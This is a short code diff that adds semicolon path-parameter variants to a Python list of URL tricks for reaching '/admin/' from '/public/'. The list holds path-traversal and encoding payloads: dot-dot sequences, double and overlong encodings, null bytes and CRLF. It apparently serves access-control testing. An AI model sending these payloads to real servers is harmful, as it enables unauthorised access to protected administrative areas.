@@ -11,7 +11,7 @@ TRICKS = [
     "/public/../admin/", "/public/%2e%2e/admin/", "/public/.%2e/admin/", "/public/..%2fadmin/", "/public/..%2Fadmin/",
     "/public/%2e%2e%2fadmin/", "/public/..%5cadmin/", "/public/..\\admin/", "//admin/", "/./admin/", "/public//../admin/",
     "/admin%00", "/admin/%00", "/public;/../admin/", "/public/;/../../admin/", "/%61dmin/", "/%61%64min/", "/admin?x=/public/",
-    "/admin/?x=/public/", "/admin/..;/admin/", "/admin%2f", "/admin//", "/admin/.", "/admin/%2e", "/public/%252e%252e/admin/",
+    "/admin/?x=/public/", "/admin/..;/admin/", "/public/..;/admin/", "/public/..;x=y/admin/", "/admin%2f", "/admin//", "/admin/.", "/admin/%2e", "/public/%252e%252e/admin/",
     "/public/../../admin/", "/public/x/../../admin/", "/public/%c0%ae%c0%ae/admin/", "/admin/#/public/", "/admin%23/public/",
     "/admin\t/", "/admin/%0d%0a", "/public/..%00/admin/", "/public/%u002e%u002e/admin/",
 ]
